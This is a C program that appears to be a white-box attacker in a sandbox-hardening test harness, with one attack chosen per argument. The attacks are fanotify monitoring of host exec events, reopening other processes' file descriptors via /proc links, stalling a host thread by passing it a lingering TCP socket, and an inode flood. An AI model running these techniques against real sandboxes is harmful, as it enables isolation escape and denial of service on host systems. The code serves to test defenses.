// Round 4 white-box attacker (round4.test.js; findings/round4/run.js): one attack per argv[1]; prints
// "RESULT <name> <blocked|open> <detail>" on stderr (harness.js format).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <dirent.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <arpa/inet.h>
#include <time.h>
#include <unistd.h>

static void result(const char *name, int open, const char *fmt, ...) __attribute__((format(printf, 3, 4)));
#include <stdarg.h>
static void result(const char *name, int open, const char *fmt, ...) {
  char buf[512];
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(buf, sizeof buf, fmt, ap);
  va_end(ap);
  fprintf(stderr, "RESULT %s %s %s\n", name, open ? "open" : "blocked", buf);
  fflush(stderr);
}

// fanotify (unprivileged since 5.13: FAN_REPORT_FID, inode marks) on a
// host-bound directory: every host exec of a program in it is reported with
// its name, as inotify was (round 3 closed inotify_init only).
static int fanotify_feed(const char *target, int seconds) {
  int fd = fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_DFID_NAME, O_RDONLY);
  if (fd < 0) {
    result("fanotify-feed", 0, "fanotify_init: %s", strerror(errno));
    return 0;
  }
  if (fanotify_mark(fd, FAN_MARK_ADD, FAN_OPEN_EXEC | FAN_EVENT_ON_CHILD, AT_FDCWD, target) < 0) {
    result("fanotify-feed", 0, "fanotify_mark %s: %s", target, strerror(errno));
    return 0;
  }
  fprintf(stderr, "READY watching %s\n", target);
  fflush(stderr);
  struct pollfd p = {.fd = fd, .events = POLLIN};
  int events = 0, foreign = 0;
  char names[256] = "";
  time_t end = time(NULL) + seconds;
  char buf[8192] __attribute__((aligned(8)));
  while (time(NULL) < end) {
    if (poll(&p, 1, 200) <= 0) continue;
    ssize_t n = read(fd, buf, sizeof buf);
    if (n <= 0) continue;
    struct fanotify_event_metadata *m = (void *)buf;
    for (; FAN_EVENT_OK(m, n); m = FAN_EVENT_NEXT(m, n)) {
      events++;
      if (m->pid == 0) foreign++;  // not in our pid namespace: a host process
      struct fanotify_event_info_fid *fid = (void *)(m + 1);
      if (fid->hdr.info_type == FAN_EVENT_INFO_TYPE_DFID_NAME) {
        struct file_handle *h = (void *)fid->handle;
        const char *name = (const char *)h->f_handle + h->handle_bytes;
        if (strlen(names) + strlen(name) + 2 < sizeof names && !strstr(names, name)) {
          strcat(names, name);
          strcat(names, ",");
        }
      }
    }
  }
  result("fanotify-feed", foreign > 0, "%d exec events in %s, %d by processes outside the sandbox; programs: %s", events, target, foreign, names);
  return 0;
}

static int list_fds(void) {
  DIR *d = opendir("/proc/self/fd");
  struct dirent *e;
  char path[300], link[512];
  while (d && (e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "/proc/self/fd/%s", e->d_name);
    ssize_t n = readlink(path, link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    fprintf(stderr, "FD %s -> %s\n", e->d_name, link);
  }
  return 0;
}


// Every process of the sandbox: its descriptors, and whether one can be
// reopened through /proc/<pid>/fd/N (the magic link bypasses pidfd_getfd).
static int proc_fds(void) {
  DIR *procs = opendir("/proc");
  struct dirent *p;
  char self[32];
  snprintf(self, sizeof self, "%d", getpid());
  while (procs && (p = readdir(procs))) {
    if (p->d_name[0] < '1' || p->d_name[0] > '9' || !strcmp(p->d_name, self)) continue;
    char dir[300];
    snprintf(dir, sizeof dir, "/proc/%s/fd", p->d_name);
    DIR *d = opendir(dir);
    if (!d) { fprintf(stderr, "PID %s fd dir: %s\n", p->d_name, strerror(errno)); continue; }
    struct dirent *e;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.') continue;
      char path[600], link[512];
      snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
      ssize_t n = readlink(path, link, sizeof link - 1);
      link[n > 0 ? n : 0] = 0;
      int fd = open(path, O_RDWR | O_NONBLOCK);
      int err = errno;
      if (fd < 0) { fd = open(path, O_RDONLY | O_NONBLOCK); err = errno; }
      fprintf(stderr, "PID %s FD %s -> %s : %s\n", p->d_name, e->d_name, link, fd >= 0 ? "REOPENED" : strerror(err));
      if (fd >= 0) close(fd);
    }
    closedir(d);
  }
  return 0;
}

static int send_fd(int channel, int fd) {
  char byte = 'x';
  struct iovec iov = {.iov_base = &byte, .iov_len = 1};
  union { char buf[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; } u;
  memset(&u, 0, sizeof u);
  struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
  struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
  c->cmsg_level = SOL_SOCKET;
  c->cmsg_type = SCM_RIGHTS;
  c->cmsg_len = CMSG_LEN(sizeof(int));
  memcpy(CMSG_DATA(c), &fd, sizeof(int));
  return sendmsg(channel, &msg, MSG_NOSIGNAL) == 1 ? 0 : -1;
}

// A loopback TCP connection (inside the sandbox's own net namespace) whose
// sender cannot finish: the receiver never reads, its window is zero, and
// the sender lingers for `seconds`. Closing the sender's last reference then
// blocks in tcp_close for that long, in whichever thread drops it. The
// sender goes over `channel` (fd 3: the host's pump reads it with read(),
// which drops the passed descriptor in the pump thread), the receiver right
// after it, so it is still alive (in flight) while the pump thread waits.
static int linger_over(int channel, int seconds) {
  int listener = socket(AF_INET, SOCK_STREAM, 0);
  if (listener < 0) { result("linger-close", 0, "socket(AF_INET): %s", strerror(errno)); return 0; }
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t len = sizeof a;
  int small = 4096;
  setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
  if (bind(listener, (void *)&a, sizeof a) < 0 || listen(listener, 1) < 0 || getsockname(listener, (void *)&a, &len) < 0) {
    result("linger-close", 0, "listen: %s", strerror(errno));
    return 0;
  }
  int sender = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(sender, (void *)&a, sizeof a) < 0) { result("linger-close", 0, "connect: %s", strerror(errno)); return 0; }
  int receiver = accept(listener, NULL, NULL);
  fcntl(sender, F_SETFL, O_NONBLOCK);
  static char block[65536];
  long queued = 0;
  for (int idle = 0; idle < 50;) {
    ssize_t n = write(sender, block, sizeof block);
    if (n > 0) { queued += n; idle = 0; } else { idle++; usleep(2000); }
  }
  struct linger l = {.l_onoff = 1, .l_linger = seconds};
  if (setsockopt(sender, SOL_SOCKET, SO_LINGER, &l, sizeof l) < 0) { result("linger-close", 0, "SO_LINGER: %s", strerror(errno)); return 0; }
  if (send_fd(channel, sender) < 0 || send_fd(channel, receiver) < 0) {
    result("linger-close", 0, "SCM_RIGHTS over fd %d: %s", channel, strerror(errno));
    return 0;
  }
  close(sender);
  close(receiver);
  close(listener);
  result("linger-close", 1, "a lingering TCP socket (%ld bytes stuck, linger %d s) and its peer were handed to the host over fd %d", queued, seconds, channel);
  return 0;
}

// Empty files cost no tmpfs blocks (--size does not bound them) but each is
// an inode and a dentry of kernel memory.
static int inode_flood(const char *dir, long count) {
  char path[4096];
  long made = 0;
  for (; made < count; made++) {
    snprintf(path, sizeof path, "%s/f%ld", dir, made);
    int fd = open(path, O_CREAT | O_WRONLY, 0600);
    if (fd < 0) break;
    close(fd);
  }
  int err = errno;
  FILE *m = fopen("/proc/meminfo", "r");
  char line[256], slab[256] = "";
  while (m && fgets(line, sizeof line, m)) if (!strncmp(line, "SUnreclaim", 10) || !strncmp(line, "SReclaimable", 12)) strncat(slab, line, sizeof slab - strlen(slab) - 1);
  for (char *c = slab; *c; c++) if (*c == '\n') *c = ' ';
  result("inode-flood", made == count, "%ld empty files in %s (stopped: %s); %s", made, dir, made == count ? "no" : strerror(err), slab);
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  if (!strcmp(argv[1], "fanotify")) return fanotify_feed(argc > 2 ? argv[2] : "/usr/bin/true", argc > 3 ? atoi(argv[3]) : 3);
  if (!strcmp(argv[1], "fds")) return list_fds();
  if (!strcmp(argv[1], "procfds")) return proc_fds();
  if (!strcmp(argv[1], "inodes")) return inode_flood(argc > 2 ? argv[2] : "/tmp", argc > 3 ? atol(argv[3]) : 100000);
  if (!strcmp(argv[1], "linger")) return linger_over(argc > 2 ? atoi(argv[2]) : 3, argc > 3 ? atoi(argv[3]) : 600);
  fprintf(stderr, "unknown attack %s\n", argv[1]);
  return 2;
}
